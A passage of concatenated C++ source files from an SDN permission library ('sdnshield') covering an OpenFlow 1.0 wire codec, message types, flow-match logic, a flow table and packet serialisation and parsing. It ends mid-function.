  virtual void registerQueue(const void* tag, std::string label) = 0;
  /// Removes the queue; pending tasks are destroyed (waiters observe broken
  /// promises, exactly like a discarded real queue).
  virtual void unregisterQueue(const void* tag) = 0;

  /// Appends a task to a registered queue. Running it later is one atomic
  /// scheduler step. False if the queue is unknown or sealed.
  virtual bool enqueue(const void* tag, std::function<void()> task) = 0;
  /// Runs every pending task of the queue inline, in order (stop/join
  /// semantics: the worker drains what is left, then exits).
  virtual void drainQueue(const void* tag) = 0;
  /// Destroys pending tasks without running them and seals the queue
  /// (quarantine semantics: waiters see broken promises).
  virtual void discardQueue(const void* tag) = 0;

  /// Replacement for a timed blocking wait: parks the caller until @p ready
  /// returns true. Best effort — may return with the predicate still false
  /// during teardown, so callers must re-check and fall back to their
  /// failure path. @p what names the wait in traces.
  virtual void await(const std::function<bool()>& ready,
                     std::string_view what) = 0;

  /// A schedule point: a parked decision where the explorer picks the next
  /// step. Called from every FaultInjector site and from mck::yield. No-op
  /// for threads the scheduler does not own.
  virtual void schedulePoint(std::string_view site) = 0;
};

/// The installed executor, or nullptr (production). The disarmed fast path
/// is one relaxed load.
VirtualExecutor* virtualExecutor();

/// Installs / clears the process-wide executor. Test-only; not synchronized
/// against concurrent runtime construction — install before building the
/// rig under test and clear after tearing it down.
void setVirtualExecutor(VirtualExecutor* executor);

}  // namespace sdnshield::iso
