// OpenFlow 1.0 wire codec: binary (de)serialisation of the southbound
// messages this library models — flow-mods, packet-in/out, flow-removed,
// stats, errors and echo — per the OpenFlow 1.0.0 specification (big-endian,
// 8-byte ofp_header framing, 40-byte ofp_match).
//
// The in-process simulator does not need wire framing, but a
// controller-independent permission engine does: this is what lets the
// library sit in front of a real OF 1.0 control channel.
//
// Encoding restriction inherited from OF 1.0: IPv4 matches support prefix
// masks only; encoding a non-prefix MaskedIpv4 throws EncodeError.
#pragma once

#include <cstdint>
#include <stdexcept>
#include <string>
#include <variant>
#include <vector>

#include "of/flow_mod.h"
#include "of/messages.h"

namespace sdnshield::of::wire {

inline constexpr std::uint8_t kVersion = 0x01;  // OpenFlow 1.0.

enum class MsgType : std::uint8_t {
  kHello = 0,
  kError = 1,
  kEchoRequest = 2,
  kEchoReply = 3,
  kFeaturesRequest = 5,
  kFeaturesReply = 6,
  kPacketIn = 10,
  kFlowRemoved = 11,
  kPacketOut = 13,
  kFlowMod = 14,
  kStatsRequest = 16,
  kStatsReply = 17,
};

class EncodeError : public std::runtime_error {
 public:
  explicit EncodeError(const std::string& message)
      : std::runtime_error("OF encode error: " + message) {}
};

class DecodeError : public std::runtime_error {
 public:
  explicit DecodeError(const std::string& message)
      : std::runtime_error("OF decode error: " + message) {}
};

struct Hello {
  std::uint32_t xid = 0;
};

struct Echo {
  bool isReply = false;
  std::uint32_t xid = 0;
  Bytes payload;
};

/// OFPT_FEATURES_REQUEST: header-only probe for switch identity.
struct FeaturesRequest {
  std::uint32_t xid = 0;
};

/// OFPT_FEATURES_REPLY (ofp_switch_features): the in-band datapath-id
/// announcement — how a TCP transport learns which switch just connected.
/// Port descriptions are not modelled; replies encode zero ports and
/// decoding skips any present.
struct FeaturesReply {
  std::uint32_t xid = 0;
  DatapathId dpid = 0;
  std::uint32_t bufferCount = 0;
  std::uint8_t tableCount = 1;
};

/// Any message this codec understands. Except for FeaturesReply (whose whole
/// point is identity), DatapathId is carried out-of-band by the connection
/// (as in real OF), so dpid fields of decoded messages are 0.
using Message =
    std::variant<Hello, Echo, FeaturesRequest, FeaturesReply, FlowMod,
                 PacketIn, PacketOut, FlowRemoved, ErrorMsg, StatsRequest,
                 StatsReply>;

// --- encoding ------------------------------------------------------------------

Bytes encodeHello(std::uint32_t xid = 0);
Bytes encodeEcho(const Echo& echo);
Bytes encodeFeaturesRequest(std::uint32_t xid = 0);
Bytes encodeFeaturesReply(const FeaturesReply& reply);
Bytes encodeFlowMod(const FlowMod& mod, std::uint32_t xid = 0);
Bytes encodePacketIn(const PacketIn& packetIn, std::uint32_t xid = 0);
Bytes encodePacketOut(const PacketOut& packetOut, std::uint32_t xid = 0);
Bytes encodeFlowRemoved(const FlowRemoved& removed, std::uint32_t xid = 0);
Bytes encodeError(const ErrorMsg& error, std::uint32_t xid = 0);
Bytes encodeStatsRequest(const StatsRequest& request, std::uint32_t xid = 0);
Bytes encodeStatsReply(const StatsReply& reply, std::uint32_t xid = 0);

/// Encodes any message.
Bytes encode(const Message& message, std::uint32_t xid = 0);

// --- decoding -------------------------------------------------------------------

/// Decodes exactly one message. Throws DecodeError on truncation, bad
/// version, unknown type, or malformed bodies. The span overload is the
/// primitive: it reads borrowed memory (e.g. a window into a connection's
/// receive buffer) and copies nothing until a field needs materialising —
/// the zero-copy path the epoll frontend frames from.
Message decode(const std::uint8_t* data, std::size_t size);
inline Message decode(const Bytes& wireBytes) {
  return decode(wireBytes.data(), wireBytes.size());
}

/// Frame splitter for a byte stream: returns the length of the first
/// complete message in the buffer, or 0 when more bytes are needed.
/// Throws DecodeError when the header is malformed (bad version, or a
/// header length below the 8-byte minimum).
std::size_t frameLength(const std::uint8_t* data, std::size_t size);
inline std::size_t frameLength(const Bytes& buffer) {
  return frameLength(buffer.data(), buffer.size());
}

/// Introspection helpers.
MsgType messageType(const std::uint8_t* data, std::size_t size);
inline MsgType messageType(const Bytes& wireBytes) {
  return messageType(wireBytes.data(), wireBytes.size());
}
std::uint32_t transactionId(const std::uint8_t* data, std::size_t size);
inline std::uint32_t transactionId(const Bytes& wireBytes) {
  return transactionId(wireBytes.data(), wireBytes.size());
}

// --- ofp_match <-> FlowMatch -----------------------------------------------------

/// True when the match is representable in OF 1.0 (prefix IPv4 masks only).
bool isEncodable(const FlowMatch& match);

}  // namespace sdnshield::of::wire
