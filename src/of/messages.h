// Controller <-> switch message types (the OF southbound vocabulary).
#pragma once

#include <cstdint>
#include <string>
#include <variant>
#include <vector>

#include "of/flow_mod.h"
#include "of/packet.h"

namespace sdnshield::of {

enum class PacketInReason { kNoMatch, kAction };

/// Packet punted from a switch to the controller.
struct PacketIn {
  DatapathId dpid = 0;
  PortNo inPort = ports::kNone;
  PacketInReason reason = PacketInReason::kNoMatch;
  std::uint32_t bufferId = 0;
  Packet packet;
};

/// Packet pushed from the controller out of a switch port.
struct PacketOut {
  DatapathId dpid = 0;
  PortNo inPort = ports::kNone;  ///< Logical ingress (for FLOOD semantics).
  ActionList actions;
  Packet packet;
  /// True when the packet echoes a buffered packet-in (vs. fabricated by the
  /// app). The pkt-out permission filter keys on this provenance bit.
  bool fromPacketIn = false;
};

/// Entry removed notification (idle/hard timeout or delete).
struct FlowRemoved {
  DatapathId dpid = 0;
  FlowMatch match;
  std::uint16_t priority = 0;
  std::uint64_t cookie = 0;
};

enum class StatsLevel { kFlow, kPort, kSwitch };

inline std::string toString(StatsLevel level) {
  switch (level) {
    case StatsLevel::kFlow:
      return "FLOW_LEVEL";
    case StatsLevel::kPort:
      return "PORT_LEVEL";
    case StatsLevel::kSwitch:
      return "SWITCH_LEVEL";
  }
  return "LEVEL_UNKNOWN";
}

struct StatsRequest {
  StatsLevel level = StatsLevel::kSwitch;
  DatapathId dpid = 0;
  FlowMatch match;  ///< Flow-level selector.
};

struct FlowStatsEntry {
  FlowMatch match;
  std::uint16_t priority = 0;
  std::uint64_t packetCount = 0;
  std::uint64_t byteCount = 0;
  std::uint64_t cookie = 0;
};

struct PortStats {
  PortNo port = 0;
  std::uint64_t rxPackets = 0;
  std::uint64_t txPackets = 0;
  std::uint64_t rxBytes = 0;
  std::uint64_t txBytes = 0;
};

struct SwitchStats {
  DatapathId dpid = 0;
  std::size_t activeFlows = 0;
  std::uint64_t lookupCount = 0;
  std::uint64_t matchedCount = 0;
};

struct StatsReply {
  StatsLevel level = StatsLevel::kSwitch;
  DatapathId dpid = 0;
  std::vector<FlowStatsEntry> flows;
  std::vector<PortStats> ports;
  SwitchStats switchStats;
};

enum class ErrorType { kBadRequest, kBadMatch, kBadAction, kTableFull, kPermError };

struct ErrorMsg {
  DatapathId dpid = 0;
  ErrorType type = ErrorType::kBadRequest;
  std::string detail;
};

}  // namespace sdnshield::of
