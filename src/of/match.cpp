#include "of/match.h"

#include <sstream>

namespace sdnshield::of {

std::string toString(MatchField field) {
  switch (field) {
    case MatchField::kInPort:
      return "IN_PORT";
    case MatchField::kEthSrc:
      return "ETH_SRC";
    case MatchField::kEthDst:
      return "ETH_DST";
    case MatchField::kEthType:
      return "ETH_TYPE";
    case MatchField::kVlanId:
      return "VLAN_ID";
    case MatchField::kIpSrc:
      return "IP_SRC";
    case MatchField::kIpDst:
      return "IP_DST";
    case MatchField::kIpProto:
      return "IP_PROTO";
    case MatchField::kTpSrc:
      return "TP_SRC";
    case MatchField::kTpDst:
      return "TP_DST";
  }
  return "FIELD_UNKNOWN";
}

std::string MaskedIpv4::toString() const {
  if (mask.value() == 0xffffffffu) return value.toString();
  return value.toString() + " MASK " + mask.toString();
}

namespace {

template <typename T>
bool exactMatches(const std::optional<T>& want, const std::optional<T>& got) {
  if (!want) return true;
  return got && *got == *want;
}

template <typename T>
bool exactMatches(const std::optional<T>& want, const T& got) {
  return !want || *want == got;
}

// Wider-or-equal test for exact-or-wildcard fields.
template <typename T>
bool exactSubsumes(const std::optional<T>& wide, const std::optional<T>& narrow) {
  if (!wide) return true;           // wildcard subsumes everything
  return narrow && *narrow == *wide;
}

template <typename T>
bool exactOverlaps(const std::optional<T>& a, const std::optional<T>& b) {
  if (!a || !b) return true;
  return *a == *b;
}

}  // namespace

bool FlowMatch::matches(const HeaderFields& pkt) const {
  if (!exactMatches(inPort, pkt.inPort)) return false;
  if (!exactMatches(ethSrc, pkt.ethSrc)) return false;
  if (!exactMatches(ethDst, pkt.ethDst)) return false;
  if (!exactMatches(ethType, pkt.ethType)) return false;
  if (!exactMatches(vlanId, pkt.vlanId)) return false;
  if (ipSrc && (!pkt.ipSrc || !ipSrc->matches(*pkt.ipSrc))) return false;
  if (ipDst && (!pkt.ipDst || !ipDst->matches(*pkt.ipDst))) return false;
  if (!exactMatches(ipProto, pkt.ipProto)) return false;
  if (!exactMatches(tpSrc, pkt.tpSrc)) return false;
  if (!exactMatches(tpDst, pkt.tpDst)) return false;
  return true;
}

bool FlowMatch::subsumes(const FlowMatch& other) const {
  if (!exactSubsumes(inPort, other.inPort)) return false;
  if (!exactSubsumes(ethSrc, other.ethSrc)) return false;
  if (!exactSubsumes(ethDst, other.ethDst)) return false;
  if (!exactSubsumes(ethType, other.ethType)) return false;
  if (!exactSubsumes(vlanId, other.vlanId)) return false;
  if (ipSrc && (!other.ipSrc || !ipSrc->subsumes(*other.ipSrc))) return false;
  if (ipDst && (!other.ipDst || !ipDst->subsumes(*other.ipDst))) return false;
  if (!exactSubsumes(ipProto, other.ipProto)) return false;
  if (!exactSubsumes(tpSrc, other.tpSrc)) return false;
  if (!exactSubsumes(tpDst, other.tpDst)) return false;
  return true;
}

bool FlowMatch::overlaps(const FlowMatch& other) const {
  if (!exactOverlaps(inPort, other.inPort)) return false;
  if (!exactOverlaps(ethSrc, other.ethSrc)) return false;
  if (!exactOverlaps(ethDst, other.ethDst)) return false;
  if (!exactOverlaps(ethType, other.ethType)) return false;
  if (!exactOverlaps(vlanId, other.vlanId)) return false;
  if (ipSrc && other.ipSrc && !ipSrc->overlaps(*other.ipSrc)) return false;
  if (ipDst && other.ipDst && !ipDst->overlaps(*other.ipDst)) return false;
  if (!exactOverlaps(ipProto, other.ipProto)) return false;
  if (!exactOverlaps(tpSrc, other.tpSrc)) return false;
  if (!exactOverlaps(tpDst, other.tpDst)) return false;
  return true;
}

namespace {

template <typename T>
bool mergeExact(const std::optional<T>& a, const std::optional<T>& b,
                std::optional<T>& out) {
  if (a && b) {
    if (*a != *b) return false;
    out = a;
  } else {
    out = a ? a : b;
  }
  return true;
}

bool mergeMasked(const std::optional<MaskedIpv4>& a,
                 const std::optional<MaskedIpv4>& b,
                 std::optional<MaskedIpv4>& out) {
  if (a && b) {
    if (!a->overlaps(*b)) return false;
    // Union of the constrained bits; values agree on the common bits.
    std::uint32_t mask = a->mask.value() | b->mask.value();
    std::uint32_t value = (a->value.value() & a->mask.value()) |
                          (b->value.value() & b->mask.value());
    out = MaskedIpv4{Ipv4Address{value}, Ipv4Address{mask}};
  } else {
    out = a ? a : b;
  }
  return true;
}

}  // namespace

std::optional<FlowMatch> FlowMatch::intersect(const FlowMatch& other) const {
  FlowMatch out;
  if (!mergeExact(inPort, other.inPort, out.inPort)) return std::nullopt;
  if (!mergeExact(ethSrc, other.ethSrc, out.ethSrc)) return std::nullopt;
  if (!mergeExact(ethDst, other.ethDst, out.ethDst)) return std::nullopt;
  if (!mergeExact(ethType, other.ethType, out.ethType)) return std::nullopt;
  if (!mergeExact(vlanId, other.vlanId, out.vlanId)) return std::nullopt;
  if (!mergeMasked(ipSrc, other.ipSrc, out.ipSrc)) return std::nullopt;
  if (!mergeMasked(ipDst, other.ipDst, out.ipDst)) return std::nullopt;
  if (!mergeExact(ipProto, other.ipProto, out.ipProto)) return std::nullopt;
  if (!mergeExact(tpSrc, other.tpSrc, out.tpSrc)) return std::nullopt;
  if (!mergeExact(tpDst, other.tpDst, out.tpDst)) return std::nullopt;
  return out;
}

bool FlowMatch::isWildcardAll() const { return constrainedFieldCount() == 0; }

int FlowMatch::constrainedFieldCount() const {
  int n = 0;
  n += inPort.has_value();
  n += ethSrc.has_value();
  n += ethDst.has_value();
  n += ethType.has_value();
  n += vlanId.has_value();
  n += ipSrc.has_value();
  n += ipDst.has_value();
  n += ipProto.has_value();
  n += tpSrc.has_value();
  n += tpDst.has_value();
  return n;
}

std::string FlowMatch::toString() const {
  std::ostringstream out;
  out << "{";
  bool first = true;
  auto emit = [&](const std::string& name, const std::string& value) {
    if (!first) out << ", ";
    first = false;
    out << name << "=" << value;
  };
  if (inPort) emit("in_port", std::to_string(*inPort));
  if (ethSrc) emit("eth_src", ethSrc->toString());
  if (ethDst) emit("eth_dst", ethDst->toString());
  if (ethType) emit("eth_type", std::to_string(*ethType));
  if (vlanId) emit("vlan", std::to_string(*vlanId));
  if (ipSrc) emit("ip_src", ipSrc->toString());
  if (ipDst) emit("ip_dst", ipDst->toString());
  if (ipProto) emit("ip_proto", std::to_string(*ipProto));
  if (tpSrc) emit("tp_src", std::to_string(*tpSrc));
  if (tpDst) emit("tp_dst", std::to_string(*tpDst));
  if (first) out << "*";
  out << "}";
  return out.str();
}

}  // namespace sdnshield::of
