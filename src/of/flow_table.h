// A priority-ordered OpenFlow flow table with OF 1.0 add/modify/delete
// semantics and per-entry counters.
#pragma once

#include <cstddef>
#include <optional>
#include <vector>

#include "of/flow_mod.h"

namespace sdnshield::of {

/// Summary counters for one table.
struct TableStats {
  std::size_t activeEntries = 0;
  std::uint64_t lookupCount = 0;
  std::uint64_t matchedCount = 0;
};

class FlowTable {
 public:
  explicit FlowTable(std::size_t maxEntries = 65536)
      : maxEntries_(maxEntries) {}

  /// Applies a flow-mod. Returns false when an add is rejected because the
  /// table is full; all other commands succeed (possibly as no-ops).
  bool apply(const FlowMod& mod);

  /// Applies a batch of flow-mods; element i of the result is the outcome of
  /// mods[i]. Semantically equivalent to calling apply() on each mod in
  /// order, but runs of consecutive adds are inserted with one sorted merge
  /// (O((n+k) + k log k) for k adds into n entries) instead of k O(n)
  /// scans+inserts.
  std::vector<bool> applyBatch(const std::vector<FlowMod>& mods);

  /// Looks up the highest-priority matching entry and updates its counters.
  /// Returns nullptr on table miss.
  const FlowEntry* lookup(const HeaderFields& pkt, std::size_t packetBytes);

  /// Lookup without touching counters (used for read-only inspection).
  const FlowEntry* peek(const HeaderFields& pkt) const;

  const std::vector<FlowEntry>& entries() const { return entries_; }

  /// Entries whose match is subsumed by @p pattern (non-strict select).
  std::vector<FlowEntry> select(const FlowMatch& pattern) const;

  /// Entries issued with the given cookie (app id).
  std::vector<FlowEntry> selectByCookie(std::uint64_t cookie) const;

  std::size_t size() const { return entries_.size(); }
  std::size_t capacity() const { return maxEntries_; }
  TableStats stats() const;
  void clear() { entries_.clear(); }

  /// Advances virtual time by @p seconds and removes entries whose idle or
  /// hard timeout elapsed. Returns the expired entries (for FlowRemoved
  /// notifications). Lookups reset an entry's idle age.
  std::vector<FlowEntry> tick(std::uint32_t seconds);

 private:
  void add(const FlowMod& mod);
  /// Batch-inserts a run of consecutive kAdd mods; fills results[first+i].
  void addRun(const std::vector<FlowMod>& mods, std::size_t first,
              std::size_t last, std::vector<bool>& results);

  std::vector<FlowEntry> entries_;  // Sorted by priority descending.
  std::size_t maxEntries_;
  std::uint64_t lookups_ = 0;
  std::uint64_t matches_ = 0;
};

}  // namespace sdnshield::of
