// OpenFlow 1.0-style flow match: a conjunction of (possibly wildcarded,
// possibly masked) header-field predicates. FlowMatch is the common currency
// between the switch flow tables, the controller API and SDNShield's flow
// predicate / wildcard filters.
#pragma once

#include <cstdint>
#include <optional>
#include <string>

#include "of/types.h"

namespace sdnshield::of {

/// Header fields a match (or a permission filter) can constrain.
enum class MatchField {
  kInPort,
  kEthSrc,
  kEthDst,
  kEthType,
  kVlanId,
  kIpSrc,
  kIpDst,
  kIpProto,
  kTpSrc,  ///< TCP/UDP source port.
  kTpDst,  ///< TCP/UDP destination port.
};

std::string toString(MatchField field);

/// Concrete header values extracted from a packet, used for table lookup.
struct HeaderFields {
  PortNo inPort = ports::kNone;
  MacAddress ethSrc;
  MacAddress ethDst;
  std::uint16_t ethType = 0;
  std::optional<std::uint16_t> vlanId;
  std::optional<Ipv4Address> ipSrc;
  std::optional<Ipv4Address> ipDst;
  std::optional<std::uint8_t> ipProto;
  std::optional<std::uint16_t> tpSrc;
  std::optional<std::uint16_t> tpDst;
};

/// An IPv4 field predicate: matches addresses where (addr & mask) ==
/// (value & mask). mask == 0 means fully wildcarded.
struct MaskedIpv4 {
  Ipv4Address value;
  Ipv4Address mask = Ipv4Address{0xffffffffu};

  bool matches(Ipv4Address addr) const {
    return (addr.value() & mask.value()) == (value.value() & mask.value());
  }
  /// True when every address matched by @p other is also matched by *this.
  bool subsumes(const MaskedIpv4& other) const {
    // this's constrained bits must be a subset of other's, and agree on them.
    if ((mask.value() & other.mask.value()) != mask.value()) return false;
    return (value.value() & mask.value()) == (other.value.value() & mask.value());
  }
  /// True when some address is matched by both.
  bool overlaps(const MaskedIpv4& other) const {
    std::uint32_t common = mask.value() & other.mask.value();
    return (value.value() & common) == (other.value.value() & common);
  }
  friend bool operator==(const MaskedIpv4& a, const MaskedIpv4& b) {
    // Equality of the predicate, not the representation: unmasked value bits
    // are irrelevant.
    return a.mask == b.mask &&
           (a.value.value() & a.mask.value()) ==
               (b.value.value() & b.mask.value());
  }
  std::string toString() const;
};

/// A flow match. Each field is either absent (fully wildcarded) or a
/// predicate on that field. IPv4 fields support arbitrary bit masks.
struct FlowMatch {
  std::optional<PortNo> inPort;
  std::optional<MacAddress> ethSrc;
  std::optional<MacAddress> ethDst;
  std::optional<std::uint16_t> ethType;
  std::optional<std::uint16_t> vlanId;
  std::optional<MaskedIpv4> ipSrc;
  std::optional<MaskedIpv4> ipDst;
  std::optional<std::uint8_t> ipProto;
  std::optional<std::uint16_t> tpSrc;
  std::optional<std::uint16_t> tpDst;

  /// The fully wildcarded match (matches every packet).
  static FlowMatch any() { return FlowMatch{}; }

  /// True when the packet headers satisfy every field predicate.
  bool matches(const HeaderFields& pkt) const;

  /// True when every packet matched by @p other is also matched by *this
  /// (i.e. *this is the same or a wider predicate).
  bool subsumes(const FlowMatch& other) const;

  /// True when some packet satisfies both matches.
  bool overlaps(const FlowMatch& other) const;

  /// The conjunction of two matches: matches exactly the packets both
  /// match. Empty when the matches are disjoint.
  std::optional<FlowMatch> intersect(const FlowMatch& other) const;

  /// True when no field is constrained.
  bool isWildcardAll() const;

  /// Number of constrained fields (used for specificity heuristics).
  int constrainedFieldCount() const;

  friend bool operator==(const FlowMatch&, const FlowMatch&) = default;

  std::string toString() const;
};

}  // namespace sdnshield::of
