// Basic OpenFlow-level value types: datapath ids, ports, MAC and IPv4
// addresses. These are the vocabulary shared by the switch simulator, the
// controller and the permission engine.
#pragma once

#include <array>
#include <compare>
#include <cstdint>
#include <functional>
#include <string>

namespace sdnshield::of {

/// 64-bit OpenFlow datapath identifier of a switch.
using DatapathId = std::uint64_t;

/// Switch port number. A handful of values are reserved, mirroring OF 1.0.
using PortNo = std::uint32_t;

/// Reserved port numbers (subset of the OpenFlow 1.0 set).
namespace ports {
inline constexpr PortNo kMax = 0xff00;         ///< Highest physical port.
inline constexpr PortNo kFlood = 0xfffb;       ///< Flood out all but ingress.
inline constexpr PortNo kController = 0xfffd;  ///< Punt to the controller.
inline constexpr PortNo kLocal = 0xfffe;       ///< Switch-local stack.
inline constexpr PortNo kNone = 0xffff;        ///< No port / wildcard.
}  // namespace ports

/// 48-bit Ethernet MAC address.
class MacAddress {
 public:
  constexpr MacAddress() = default;
  explicit constexpr MacAddress(std::array<std::uint8_t, 6> octets)
      : octets_(octets) {}

  /// Builds a MAC from the low 48 bits of @p value (useful for generators).
  static constexpr MacAddress fromUint64(std::uint64_t value) {
    std::array<std::uint8_t, 6> o{};
    for (int i = 5; i >= 0; --i) {
      o[static_cast<std::size_t>(i)] = static_cast<std::uint8_t>(value & 0xff);
      value >>= 8;
    }
    return MacAddress{o};
  }

  /// Parses "aa:bb:cc:dd:ee:ff". Throws std::invalid_argument on bad input.
  static MacAddress parse(const std::string& text);

  constexpr std::uint64_t toUint64() const {
    std::uint64_t v = 0;
    for (auto o : octets_) v = (v << 8) | o;
    return v;
  }

  constexpr bool isBroadcast() const { return toUint64() == 0xffffffffffffULL; }
  constexpr bool isMulticast() const { return (octets_[0] & 0x01) != 0; }

  std::string toString() const;

  constexpr const std::array<std::uint8_t, 6>& octets() const {
    return octets_;
  }

  friend constexpr auto operator<=>(const MacAddress&,
                                    const MacAddress&) = default;

 private:
  std::array<std::uint8_t, 6> octets_{};
};

/// IPv4 address stored in host byte order.
class Ipv4Address {
 public:
  constexpr Ipv4Address() = default;
  explicit constexpr Ipv4Address(std::uint32_t value) : value_(value) {}
  constexpr Ipv4Address(std::uint8_t a, std::uint8_t b, std::uint8_t c,
                        std::uint8_t d)
      : value_((std::uint32_t{a} << 24) | (std::uint32_t{b} << 16) |
               (std::uint32_t{c} << 8) | std::uint32_t{d}) {}

  /// Parses dotted-quad "10.13.0.1". Throws std::invalid_argument on bad
  /// input.
  static Ipv4Address parse(const std::string& text);

  /// Builds the canonical /n prefix mask, e.g. prefixMask(24) == 255.255.255.0.
  static constexpr Ipv4Address prefixMask(int bits) {
    if (bits <= 0) return Ipv4Address{0};
    if (bits >= 32) return Ipv4Address{0xffffffffu};
    return Ipv4Address{~((1u << (32 - bits)) - 1)};
  }

  constexpr std::uint32_t value() const { return value_; }
  std::string toString() const;

  friend constexpr auto operator<=>(const Ipv4Address&,
                                    const Ipv4Address&) = default;

 private:
  std::uint32_t value_ = 0;
};

/// EtherType values used by the simulator.
enum class EtherType : std::uint16_t {
  kIpv4 = 0x0800,
  kArp = 0x0806,
  kVlan = 0x8100,
};

/// IP protocol numbers used by the simulator.
enum class IpProto : std::uint8_t {
  kIcmp = 1,
  kTcp = 6,
  kUdp = 17,
};

std::string toString(EtherType type);
std::string toString(IpProto proto);

}  // namespace sdnshield::of

template <>
struct std::hash<sdnshield::of::MacAddress> {
  std::size_t operator()(const sdnshield::of::MacAddress& mac) const noexcept {
    return std::hash<std::uint64_t>{}(mac.toUint64());
  }
};

template <>
struct std::hash<sdnshield::of::Ipv4Address> {
  std::size_t operator()(const sdnshield::of::Ipv4Address& ip) const noexcept {
    return std::hash<std::uint32_t>{}(ip.value());
  }
};
