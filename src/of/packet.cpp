#include "of/packet.h"

#include <sstream>
#include <stdexcept>

namespace sdnshield::of {

namespace {

void put8(Bytes& out, std::uint8_t v) { out.push_back(v); }
void put16(Bytes& out, std::uint16_t v) {
  out.push_back(static_cast<std::uint8_t>(v >> 8));
  out.push_back(static_cast<std::uint8_t>(v & 0xff));
}
void put32(Bytes& out, std::uint32_t v) {
  put16(out, static_cast<std::uint16_t>(v >> 16));
  put16(out, static_cast<std::uint16_t>(v & 0xffff));
}
void putMac(Bytes& out, const MacAddress& mac) {
  for (auto octet : mac.octets()) out.push_back(octet);
}

class Reader {
 public:
  explicit Reader(const Bytes& data) : data_(data) {}

  std::uint8_t get8() {
    need(1);
    return data_[pos_++];
  }
  std::uint16_t get16() {
    need(2);
    std::uint16_t v = static_cast<std::uint16_t>(
        (std::uint16_t{data_[pos_]} << 8) | data_[pos_ + 1]);
    pos_ += 2;
    return v;
  }
  std::uint32_t get32() {
    std::uint32_t high = get16();
    return (high << 16) | get16();
  }
  MacAddress getMac() {
    need(6);
    std::array<std::uint8_t, 6> octets{};
    for (auto& o : octets) o = data_[pos_++];
    return MacAddress{octets};
  }
  Bytes rest() {
    Bytes out(data_.begin() + static_cast<std::ptrdiff_t>(pos_), data_.end());
    pos_ = data_.size();
    return out;
  }
  std::size_t remaining() const { return data_.size() - pos_; }

 private:
  void need(std::size_t n) const {
    if (pos_ + n > data_.size()) {
      throw std::invalid_argument("truncated packet");
    }
  }
  const Bytes& data_;
  std::size_t pos_ = 0;
};

}  // namespace

Bytes Packet::serialize() const {
  Bytes out;
  putMac(out, eth.dst);
  putMac(out, eth.src);
  put16(out, eth.etherType);
  if (arp) {
    put16(out, 1);       // htype: ethernet
    put16(out, 0x0800);  // ptype: ipv4
    put8(out, 6);        // hlen
    put8(out, 4);        // plen
    put16(out, arp->op);
    putMac(out, arp->senderMac);
    put32(out, arp->senderIp.value());
    putMac(out, arp->targetMac);
    put32(out, arp->targetIp.value());
  } else if (ipv4) {
    put8(out, 0x45);  // version 4, ihl 5
    put8(out, 0);     // dscp
    // Total length patched below; reserve position.
    std::size_t lenPos = out.size();
    put16(out, 0);
    put16(out, 0);  // identification
    put16(out, 0);  // flags/fragment
    put8(out, ipv4->ttl);
    put8(out, ipv4->proto);
    put16(out, 0);  // checksum (not modelled)
    put32(out, ipv4->src.value());
    put32(out, ipv4->dst.value());
    std::size_t ipStart = lenPos - 2;
    if (tcp) {
      put16(out, tcp->srcPort);
      put16(out, tcp->dstPort);
      put32(out, tcp->seq);
      put32(out, tcp->ack);
      put8(out, 0x50);  // data offset 5
      put8(out, tcp->flags);
      put16(out, 0xffff);  // window
      put16(out, 0);       // checksum
      put16(out, 0);       // urgent
    } else if (udp) {
      put16(out, udp->srcPort);
      put16(out, udp->dstPort);
      put16(out, static_cast<std::uint16_t>(8 + payload.size()));
      put16(out, 0);  // checksum
    }
    out.insert(out.end(), payload.begin(), payload.end());
    std::uint16_t totalLen = static_cast<std::uint16_t>(out.size() - ipStart);
    out[lenPos] = static_cast<std::uint8_t>(totalLen >> 8);
    out[lenPos + 1] = static_cast<std::uint8_t>(totalLen & 0xff);
    return out;
  }
  out.insert(out.end(), payload.begin(), payload.end());
  return out;
}

Packet Packet::parse(const Bytes& wire) {
  Reader reader(wire);
  Packet pkt;
  pkt.eth.dst = reader.getMac();
  pkt.eth.src = reader.getMac();
  pkt.eth.etherType = reader.get16();
  if (pkt.eth.etherType == static_cast<std::uint16_t>(EtherType::kArp)) {
    ArpHeader arp;
    reader.get16();  // htype
    reader.get16();  // ptype
    reader.get8();   // hlen
    reader.get8();   // plen
    arp.op = reader.get16();
    arp.senderMac = reader.getMac();
    arp.senderIp = Ipv4Address{reader.get32()};
    arp.targetMac = reader.getMac();
    arp.targetIp = Ipv4Address{reader.get32()};
    pkt.arp = arp;
    pkt.payload = reader.rest();
    return pkt;
  }
  if (pkt.eth.etherType == static_cast<std::uint16_t>(EtherType::kIpv4)) {
    std::uint8_t verIhl = reader.get8();
    if ((verIhl >> 4) != 4) throw std::invalid_argument("not IPv4");
    reader.get8();   // dscp
    reader.get16();  // total length (trust framing instead)
    reader.get16();  // identification
    reader.get16();  // flags/fragment
    Ipv4Header ip;
    ip.ttl = reader.get8();
    ip.proto = reader.get8();
    reader.get16();  // checksum
    ip.src = Ipv4Address{reader.get32()};
    ip.dst = Ipv4Address{reader.get32()};
    // Skip IPv4 options if ihl > 5.
    for (int i = 5; i < (verIhl & 0x0f); ++i) reader.get32();
    pkt.ipv4 = ip;
    if (ip.proto == static_cast<std::uint8_t>(IpProto::kTcp)) {
      TcpHeader tcp;
      tcp.srcPort = reader.get16();
      tcp.dstPort = reader.get16();
      tcp.seq = reader.get32();
      tcp.ack = reader.get32();
      std::uint8_t offset = reader.get8();
      tcp.flags = reader.get8();
      reader.get16();  // window
      reader.get16();  // checksum
      reader.get16();  // urgent
      for (int i = 5; i < (offset >> 4); ++i) reader.get32();
      pkt.tcp = tcp;
    } else if (ip.proto == static_cast<std::uint8_t>(IpProto::kUdp)) {
      UdpHeader udp;
      udp.srcPort = reader.get16();
      udp.dstPort = reader.get16();
      reader.get16();  // length
      reader.get16();  // checksum
      pkt.udp = udp;
    }
    pkt.payload = reader.rest();
    return pkt;
  }
  pkt.payload = reader.rest();
  return pkt;
}

HeaderFields Packet::fields(PortNo inPort) const {
  HeaderFields f;
  f.inPort = inPort;
  f.ethSrc = eth.src;
  f.ethDst = eth.dst;
  f.ethType = eth.etherType;
  if (ipv4) {
    f.ipSrc = ipv4->src;
    f.ipDst = ipv4->dst;
    f.ipProto = ipv4->proto;
    if (tcp) {
      f.tpSrc = tcp->srcPort;
      f.tpDst = tcp->dstPort;
    } else if (udp) {
      f.tpSrc = udp->srcPort;
      f.tpDst = udp->dstPort;
    }
  } else if (arp) {
    // OF 1.0 convention: ARP sender/target IPs are exposed via the nw fields.
    f.ipSrc = arp->senderIp;
    f.ipDst = arp->targetIp;
  }
  return f;
}

std::string Packet::toString() const {
  std::ostringstream out;
